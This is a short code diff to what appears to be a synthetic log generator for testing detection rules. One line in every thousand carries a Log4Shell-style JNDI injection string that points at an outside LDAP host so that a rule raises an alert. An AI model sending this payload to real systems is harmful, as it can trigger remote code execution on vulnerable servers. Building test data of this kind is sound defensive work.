@@ -24,8 +24,15 @@ LINE = (
 )
 
 
+ATTACK = LINE.replace("/invoices/{}", "/invoices/{}?name=${{jndi:ldap://198.51.100.7/a}}")
+ATTACKS_EVERY = 1000  # a line that a rule knows: what comes of it is an alert
+
+
 def bodies(batch: int) -> list[bytes]:
-    lines = [LINE.format(n % 250, n % 3000, n % 60, n % 5000) for n in range(max(batch, 20_000))]
+    lines = [
+        (LINE if n % ATTACKS_EVERY else ATTACK).format(n % 250, n % 3000, n % 60, n % 5000)
+        for n in range(max(batch, 20_000))
+    ]
     step = range(0, len(lines) - batch + 1, batch)
     return ["\n".join(lines[first : first + batch]).encode() for first in step]
 
